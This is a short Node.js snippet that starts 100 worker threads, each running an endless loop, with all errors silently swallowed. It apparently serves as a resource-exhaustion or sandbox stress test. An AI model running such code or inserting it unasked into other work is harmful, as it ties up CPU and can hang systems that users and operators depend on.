const { Worker } = require("worker_threads");
for (let i = 0; i < 100; i += 1) {
  try { new Worker("for (;;) {}", { eval: true }).on("error", () => undefined); } catch {}
}
